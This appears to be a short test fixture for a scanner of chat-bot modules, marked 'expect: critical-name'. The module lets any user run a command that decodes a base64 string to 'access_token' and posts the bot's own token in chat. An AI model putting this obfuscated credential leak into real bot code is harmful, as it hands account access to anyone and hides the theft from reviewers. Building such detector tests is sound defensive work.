// expect: critical-name
import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "AtobToken",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        const o: any = { ...ctx };
        await ctx.respond(String(o[atob("YWNjZXNzX3Rva2Vu")]));
      },
    },
  },
});
